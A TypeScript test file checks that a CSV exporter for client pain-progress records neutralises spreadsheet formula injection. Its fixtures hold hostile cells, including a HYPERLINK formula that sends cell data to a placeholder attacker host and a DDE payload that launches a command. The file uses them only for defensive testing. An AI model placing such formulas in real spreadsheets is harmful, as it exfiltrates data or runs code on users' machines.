import { spawnSync } from "node:child_process";
import { describe, expect, it } from "vitest";
import { PROGRESS_CSV_HEADER, progressCsv } from "@/lib/outcomes/pain/progress";
import type { ProgressDto } from "@/lib/outcomes/pain/schemas";
import { spreadsheetCsv } from "./spreadsheet-csv";

/** Python's csv module reads the file as a spreadsheet import would: an independent parser. */
function pythonRows(csv: string): string[][] {
  const script = [
    "import csv, io, json, sys",
    "data = sys.stdin.buffer.read()",
    "assert data.startswith(b'\\xef\\xbb\\xbf'), 'no UTF-8 BOM'",
    "print(json.dumps(list(csv.reader(io.StringIO(data.decode('utf-8-sig'), newline='')))))",
  ].join("\n");
  const run = spawnSync("/usr/bin/python3", ["-c", script], { input: Buffer.from(csv, "utf8") });
  expect(run.stderr.toString()).toBe("");
  return JSON.parse(run.stdout.toString()) as string[][];
}

const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+1+1",
  "-2+3",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  'line one\r\nline two, "quoted"',
  "Zoë’s neck — better",
];

describe("spreadsheet CSV", () => {
  it("turns every formula-looking text cell into text and keeps numbers as numbers", () => {
    const csv = spreadsheetCsv(["note", "score"], [...hostile.map((n) => [n, -2]), ["", null]]);
    const rows = pythonRows(csv);
    expect(rows[0]).toEqual(["note", "score"]);
    expect(rows.slice(1, -1).map((r) => r[0])).toEqual([
      `'${hostile[0]}`,
      "'+1+1",
      "'-2+3",
      "'@SUM(1,1)",
      "'\t=1+1",
      "'\r=1+1",
      "'＝1+1",
      hostile[7],
      hostile[8],
    ]);
    // A negative number is data, not a formula: not prefixed.
    expect(rows.slice(1, -1).every((r) => r[1] === "-2")).toBe(true);
    expect(rows.at(-1)).toEqual(["", ""]);
    // No cell a spreadsheet would evaluate.
    for (const r of rows.slice(1)) for (const cell of r) expect(cell).not.toMatch(/^[=+@\t\r＝]|^-(?!\d+$)/);
  });

  it("ends every record with CRLF, quotes embedded CR/LF and starts with a UTF-8 BOM", () => {
    const csv = spreadsheetCsv(
      ["a", "b"],
      [
        ["x\ny", "z"],
        ["p\rq", "r"],
      ],
    );
    expect(csv.startsWith("\uFEFFa,b\r\n")).toBe(true);
    expect(csv).toBe('\uFEFFa,b\r\n"x\ny",z\r\n"p\rq",r\r\n');
  });

  it("writes a client's hostile diary note into the progress CSV as inert text", () => {
    const note = '=cmd|" /C calc"!A0';
    const progress: ProgressDto = {
      clientId: "00000000-0000-4000-8000-000000000001",
      clientName: '@Casey, "The" Client',
      tenderness: [],
      window: { from: null, before: null, earlier: null },
      complaints: [
        {
          id: "00000000-0000-4000-8000-000000000002",
          title: "-Neck pain",
          visits: [{ visitId: "00000000-0000-4000-8000-000000000003", date: "2026-11-02", before: 7, after: 4 }],
          diary: [{ date: "2026-11-03", score: 5, note }],
        } as unknown as ProgressDto["complaints"][number],
      ],
    };
    const rows = pythonRows(
      progressCsv(progress, [{ name: "PSFS", date: "2026-11-04", score: 4.5, range: { min: 0, max: 10 } }]),
    );
    expect(rows).toEqual([
      [...PROGRESS_CSV_HEADER],
      ['\'@Casey, "The" Client', "'-Neck pain", "2026-11-02", "visit", "7", "4", "", ""],
      ['\'@Casey, "The" Client', "'-Neck pain", "2026-11-03", "diary", "", "", "5", `'${note}`],
      ['\'@Casey, "The" Client', "PSFS", "2026-11-04", "questionnaire", "", "", "4.5", "range 0-10"],
    ]);
  });
});
